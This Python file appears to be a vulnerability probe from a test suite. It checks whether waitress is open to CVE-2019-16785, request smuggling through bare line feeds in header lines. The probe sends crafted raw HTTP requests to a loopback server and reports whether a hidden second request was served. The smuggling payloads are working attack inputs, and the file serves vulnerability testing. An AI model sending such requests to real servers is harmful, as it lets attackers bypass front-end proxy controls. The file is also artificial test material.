# /// vertice-probe
# id = "PYSEC-2019-136"
# aliases = ["CVE-2019-16785", "GHSA-pg36-wpm5-g57p"]
# package = "waitress"
# summary = "A bare line feed ends a header line, so what a proxy in front takes for one request is two for the server."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = ["waitress.serve", "waitress.create_server", "waitress.serve_paste", "waitress.parser.HTTPRequestParser"]
#
# [[affected]]
# package = "waitress"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.4.0" }] }]
#
# [cases]
# attack = "a Transfer-Encoding behind a line feed inside a header value lets a second request through"
# [cases.variants]
# blank_line = "two line feeds inside a header value end the request, what follows is served as another"
# [cases.controls]
# pipeline = "two ordinary requests, one chunked, over one connection are served"
#
# [test]
# vulnerable = "1.3.1"
# fixed = "1.4.0"
# ///
"""CVE-2019-16785: line feeds alone as line ends."""

import json
import logging
import re
import socket
import sys
import threading
import warnings

warnings.simplefilter("ignore")
FOLLOWING = b"GET /smuggled HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def converse(data):
    """Send `data` to a waitress server on loopback; (paths the application served, status lines that came back)."""
    import waitress

    served = []

    def application(environ, start_response):
        environ["wsgi.input"].read()
        served.append(environ["PATH_INFO"])
        start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", "2")])
        return [b"ok"]

    logging.getLogger("waitress").addHandler(logging.NullHandler())
    server = waitress.create_server(application, host="127.0.0.1", port=0, threads=1)
    port = server.socket.getsockname()[1]
    threading.Thread(target=server.run, daemon=True).start()
    client = socket.create_connection(("127.0.0.1", port), 10)
    client.sendall(data)
    client.settimeout(5)  # the server closes after the last request and after a bad one
    answer = b""
    try:
        while True:
            piece = client.recv(65536)
            if not piece:
                break
            answer += piece
    except socket.timeout:
        pass
    return served, re.findall(r"HTTP/1\.[01] \d+ [A-Za-z ]+", answer.decode("latin-1"))


def converse_and_look(data):
    served, statuses = converse(data)
    if "/smuggled" in served:
        return "exploited", "the server answered a second request hidden in the first: %s" % served
    if served or [status.split()[1] for status in statuses] != ["400"]:
        return "error", "served %r, answered %r" % (served, statuses)
    return "blocked", "the request was refused with %s" % statuses[0]


def attack():
    body = b"0\r\n\r\n" + FOLLOWING
    return converse_and_look(
        b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nX-Note: a\nTransfer-Encoding: chunked\r\n\r\n"
        % len(body)
        + body
    )


def blank_line():
    return converse_and_look(b"GET /front HTTP/1.1\r\nHost: x\r\nX-Note: a\n\n" + FOLLOWING)


def pipeline():
    served, statuses = converse(
        b"POST /one HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
        b"GET /two HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    )
    good = served == ["/one", "/two"] and statuses == ["HTTP/1.1 200 OK"] * 2
    return ("works", "two requests served") if good else ("broken", "%r %r" % (served, statuses))


CASES = {"attack": attack, "blank_line": blank_line, "pipeline": pipeline}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
